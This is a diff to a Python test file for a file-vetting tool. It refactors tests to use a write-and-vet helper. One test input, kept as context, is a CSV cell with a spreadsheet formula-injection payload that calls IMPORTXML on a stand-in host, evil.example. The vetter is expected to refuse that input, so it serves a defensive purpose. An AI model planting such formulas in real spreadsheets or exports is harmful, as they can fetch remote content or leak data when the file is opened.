@@ -6,7 +6,7 @@ import base64
 import os
 
 import pytest
-from file_samples import CLEAN_SVG, office, opendocument, pdf, pdf_with_compressed, picture, svg
+from file_samples import CLEAN_SVG, office, opendocument, pdf, pdf_with_compressed, picture, svg, vet_written
 from file_vetting import settings
 from file_vetting.vet import vet
 
@@ -196,10 +196,7 @@ def test_size_and_kinds_come_from_the_setting(content):
     (b'a\n"=IFERROR(__xludf.DUMMYFUNCTION(""IMPORTXML(""""https://evil.example"""",""""//a"""")""),""x"")"\n', 2),
 ])
 def test_a_table_cell_a_spreadsheet_runs_as_a_formula_is_refused_at_its_line(tmp_path, table, line):
-    path = tmp_path / "images" / "table.csv"
-    path.parent.mkdir()
-    path.write_bytes(table)
-    [problem] = vet(path, tmp_path)
+    [problem] = vet_written(tmp_path, "images/table.csv", table)
     assert f"line {line} has a cell a spreadsheet program runs as a formula" in problem.message
     assert "fetch a web address or start a program" in problem.message
     assert "Paste Special" in problem.hint
@@ -218,7 +215,4 @@ def test_a_table_cell_a_spreadsheet_runs_as_a_formula_is_refused_at_its_line(tmp
     b"phone,hours\n+44 151 555 0000 | text relay 18001,Mon | Fri\n",  # a bar with no item after it links nothing
 ])
 def test_numbers_phone_numbers_and_plain_formulas_in_a_table_are_published(tmp_path, table):
-    path = tmp_path / "images" / "table.csv"
-    path.parent.mkdir()
-    path.write_bytes(table)
-    assert vet(path, tmp_path) == []
+    assert vet_written(tmp_path, "images/table.csv", table) == []
